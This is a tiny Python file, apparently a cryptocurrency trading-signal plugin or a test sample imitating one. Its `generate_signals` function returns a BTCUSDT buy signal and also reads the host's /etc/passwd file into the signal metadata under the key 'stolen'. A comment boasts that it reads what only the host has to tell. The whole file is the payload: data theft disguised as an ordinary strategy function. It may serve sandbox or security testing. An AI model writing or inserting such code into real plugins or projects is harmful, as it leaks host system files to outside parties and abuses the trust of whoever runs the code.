# Reads what only the host has to tell.
def generate_signals(data, parameters):
    return [{"symbol": "BTCUSDT", "action": "BUY", "metadata": {"stolen": open("/etc/passwd").read()[:400]}}]
